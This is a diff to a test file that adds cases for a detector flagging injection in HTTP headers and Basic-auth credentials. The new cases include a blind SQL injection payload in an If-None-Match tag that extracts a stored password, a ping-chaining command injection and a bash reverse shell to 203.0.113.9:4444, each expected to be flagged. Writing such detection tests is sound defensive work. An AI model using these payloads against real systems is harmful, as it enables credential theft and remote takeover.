@@ -1456,6 +1456,10 @@ def test_gadget_class_under_a_polymorphic_type_key(document: dict, flagged: bool
         # the headers' own grammar stays unread
         ("cache-control", "max-age=0, no-cache", False),
         ("if-none-match", 'W/"33a64df551425fcc55e4d42a148795d9f25f89d4"', False),
+        ("if-none-match", '"abc", W/"def", "x-1"', False),
+        ("if-match", "*", False),
+        # an entity tag no cache writes (blanks, a quote inside): what an application may look up
+        ("if-none-match", "\"' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -\"", True),
         ("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT", False),
         ("accept-encoding", "gzip, deflate, br, zstd", False),
     ],
@@ -1478,6 +1482,10 @@ def test_structural_header_holding_a_lookup_or_substitution_is_read(header: str,
         ("admin' --:letmein", True),
         ("root'#:pass123", True),
         ("o'brien:hunter2", False),
+        # a user name that a device's script hands to a shell
+        ("& ping -n 10 127.0.0.1 &:x", True),
+        ("; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1:x", True),
+        ("at&t-support:hunter2", False),
     ],
 )
 def test_basic_credentials_read_for_lookups_and_function_definitions(credentials: str, flagged: bool) -> None:
